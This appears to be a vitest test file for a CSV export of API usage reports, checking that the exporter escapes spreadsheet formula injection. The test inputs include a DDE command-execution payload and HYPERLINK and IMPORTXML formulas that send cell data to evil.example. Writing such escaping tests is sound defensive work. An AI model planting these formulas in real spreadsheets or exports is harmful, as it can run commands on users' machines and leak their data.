import type { UsageReport } from "@turnpike/contract/usage";
import { describe, expect, it } from "vitest";
import { toUsageCsv } from "./usage-csv.ts";

function reportOf(route: string): UsageReport {
  const period = { from: "", to: "", times: [], truncated: false };
  const values = { requests: 12, billable: "-1.5", error_rate: null };
  return {
    ...period,
    rows: [{ time: "2026-01-01T00:00:00.000Z", group: { route }, values }],
    totals: values,
    grain: "day",
    timeZone: "UTC",
    measures: ["requests", "billable", "error_rate"],
    dimensions: ["route"],
    previous: null,
  };
}

/** The second cell of the first row, as a reader of RFC 4180 sees it. */
function cellOf(route: string): string {
  const csv = toUsageCsv(reportOf(route));
  const line = csv.slice(csv.indexOf("\r\n") + 2).replace("2026-01-01T00:00:00.000Z,", "");
  const quoted = /^"((?:[^"]|"")*)",12,-1\.5,\r\n$/s.exec(line)?.[1];
  return (
    quoted?.replaceAll('""', '"') ?? /^([^",\r\n]*),12,-1\.5,\r\n$/s.exec(line)?.[1] ?? "(none)"
  );
}

describe("usage as CSV", () => {
  it("has a header, numbers as numbers, and an empty cell for null", () => {
    expect(toUsageCsv(reportOf("/cities/{city}"))).toBe(
      "time,route,requests,billable,error_rate\r\n2026-01-01T00:00:00.000Z,/cities/{city},12,-1.5,\r\n",
    );
  });

  it("leaves out the time without a grain", () => {
    expect(toUsageCsv({ ...reportOf(""), grain: null })).toBe(
      "route,requests,billable,error_rate\r\n,12,-1.5,\r\n",
    );
  });

  it.each([
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example","x")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u0000=1+1",
    "\ttext",
    "\rtext",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    '=1+1"',
    "=1+1;2",
    "-2+3+cmd|' /C calc'!A0",
    "@@",
    "+\t=",
    '=IMPORTXML(CONCAT("http://evil.example/?v=", A1), "//a")',
    "\u2003=1",
    "=",
    "-",
    "+",
    "@",
    "=\r\n=1",
  ])("writes the formula %j as text", (text) => {
    expect(cellOf(text)).toBe(`'${text}`);
  });

  it.each(["/a,b", 'say "no"', "two\r\nlines", "it's", "a;b", "/x-y=z@w+1"])(
    "keeps the harmless text %j as it is",
    (text) => {
      expect(cellOf(text)).toBe(text);
    },
  );
});
